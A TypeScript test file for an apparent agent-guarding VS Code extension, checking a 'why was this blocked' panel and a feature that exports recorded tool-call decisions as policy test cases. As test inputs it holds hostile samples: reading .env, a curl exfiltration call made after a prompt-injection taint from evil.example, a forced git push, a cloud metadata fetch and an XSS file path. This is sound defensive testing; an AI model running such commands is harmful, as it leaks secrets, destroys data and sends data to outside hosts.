/**
 * "Why was this blocked?" in plain Node: the panel's HTML (strict CSP, everything escaped, the actions) and
 * "copy as policy test case", whose output is run by the real test-suite loader and runner and must
 * reproduce the recorded decision.
 */
import * as assert from 'node:assert/strict';
import { parseTestSuite } from '../../src/core/policy/load';
import { SuiteRunner } from '../../src/core/policy/testing';
import { entryFromEvent, type DecisionEntry } from '../../src/extension/model/decisions';
import { detailsCsp, detailsHtml, testCaseYaml } from '../../src/extension/model/details';
import { builtinPolicy } from '../../src/runtime/builtin';
import { decisionEvent, HOME, PROJECT, taintedDecisionEvent } from '../vscode/support/events';

const assets = { cspSource: 'https://ext.test', nonce: 'NONCE123', styleUri: 'https://ext.test/media/details.css', scriptUri: 'https://ext.test/media/details.js' };
const entry = (tool: string, input: unknown): DecisionEntry => entryFromEvent(decisionEvent(tool, input))!;

describe('extension: details panel', () => {
  it('shows the rule, reason, remediation, matched facts, redacted input, policy version and event id', () => {
    const e = entry('Bash', { command: 'cat .env' });
    const html = detailsHtml(e, assets, { ruleSource: 'policies/baseline.yaml:318', exception: { allowed: true, maxDuration: '1h' } });
    assert.match(html, /<code id="rule">secrets\.read<\/code>/);
    assert.match(html, /id="rule-source">policies\/baseline\.yaml:318</);
    assert.ok(html.includes(`id="reason">${e.reason.replace(/'/g, '&#39;')}<`));
    assert.match(html, /id="remediation">[^<]*\.env\.example/);
    assert.ok(html.includes(`read ${PROJECT}/.env`));
    assert.match(html, /<pre id="input">\{\n  &quot;command&quot;: &quot;cat \.env&quot;/);
    assert.ok(html.includes(`id="policy">builtin:baseline 1.0.0<`));
    assert.ok(html.includes(`id="event-id">${e.id}<`));
    assert.match(html, /<button id="request-exception" data-action="requestException" title="Ask for a temporary exception \(at most 1h\)">/);
  });

  it('shows the content signals behind a decision: the session taint and the audit event of the read that caused it', () => {
    const read = '01M7ZZREADEVENT0000000000';
    const taint = [{ kind: 'injection' as const, tool: 'WebFetch', source: 'https://evil.example/page', at: new Date(0).toISOString(), eventId: read, signals: ['hidden-comment', 'exfiltration'], severity: 'high' }];
    const e = entryFromEvent(taintedDecisionEvent('Bash', { command: 'curl -s https://collector.example.net/c?d=hello' }, taint))!;
    assert.equal(e.effect, 'ask');
    assert.deepEqual(e.ruleIds, ['session.tainted-network']);
    assert.equal(e.signals.length, 1);
    const html = detailsHtml(e, assets);
    assert.match(html, /<h2>Content signals<\/h2>/);
    assert.match(html, /taint: injection \(high\)/);
    assert.ok(html.includes('hidden-comment, exfiltration'));
    assert.ok(html.includes(`event <code>${read}</code>`));
    assert.ok(html.includes('from WebFetch https://evil.example/page'));
    assert.ok(!detailsHtml(entry('Bash', { command: 'cat .env' }), assets).includes('Content signals'), 'no section without signals');
  });

  it('has a strict content security policy: no inline script or style, one nonce, no network', () => {
    const html = detailsHtml(entry('Bash', { command: 'cat .env' }), assets);
    const csp = detailsCsp(assets);
    assert.ok(html.includes(`content="${csp.replace(/'/g, '&#39;')}"`));
    assert.match(csp, /^default-src 'none';/);
    assert.ok(!csp.includes('unsafe-inline') && !csp.includes('unsafe-eval') && !csp.includes('https:;') && !csp.includes('*'));
    assert.equal((html.match(/<script/g) ?? []).length, 1);
    assert.match(html, /<script nonce="NONCE123" src="https:\/\/ext\.test\/media\/details\.js"><\/script>/);
    assert.ok(!/ on[a-z]+=/i.test(html), 'no inline event handlers');
    assert.ok(!/style=/.test(html), 'no inline styles');
  });

  it('escapes everything that comes from the tool call', () => {
    const e = entry('Read', { file_path: `${PROJECT}/<img src=x onerror=alert(1)>/.env` });
    const html = detailsHtml(e, assets);
    assert.ok(!html.includes('<img'), 'no injected element');
    assert.ok(html.includes('&lt;img src=x onerror=alert(1)&gt;'));
  });

  it('no exception button for a rule that allows none, or an allowed call', () => {
    const e = entry('Bash', { command: 'cat .env' });
    assert.match(detailsHtml(e, assets, { exception: { allowed: false } }), /data-action="requestException" title="The policy does not allow exceptions for this rule" disabled/);
    assert.match(detailsHtml(entry('Bash', { command: 'ls' }), assets), /data-action="requestException" title="Only calls a rule denied or asked about can get an exception" disabled/);
  });
});

describe('extension: copy as policy test case', () => {
  for (const [tool, input] of [
    ['Bash', { command: 'cat .env' }],
    ['Read', { file_path: `${PROJECT}/src/index.ts` }],
    ['Bash', { command: 'git push --force origin main' }],
    ['WebFetch', { url: 'http://169.254.169.254/latest/meta-data/', prompt: 'x' }],
  ] as const) {
    it(`${tool} ${JSON.stringify(input)}: the copied case runs and reproduces the decision`, () => {
      const e = entry(tool, input);
      const yaml = testCaseYaml(e, { home: HOME, user: 'dev' });
      const suiteText = `suite: copied\npolicy: builtin:baseline\ncases:\n${yaml.replace(/^/gm, '  ').trimEnd()}\n`;
      const suite = parseTestSuite(suiteText, 'copied.warden-test.yaml');
      const [r] = new SuiteRunner(suite, builtinPolicy('builtin:baseline')).runAll();
      assert.ok(r!.pass, `${suiteText}\n${r!.failures.join('\n')}`);
      assert.equal(r!.decision.verdict, e.verdict);
      assert.deepEqual(r!.decision.ruleIds, e.ruleIds);
    });
  }

  it('warns when the recorded input was redacted', () => {
    const e = entry('Write', { file_path: `${PROJECT}/a.txt`, content: 'x' });
    assert.match(testCaseYaml(e, { home: HOME }), /# The recorded input was redacted or cut/);
  });
});
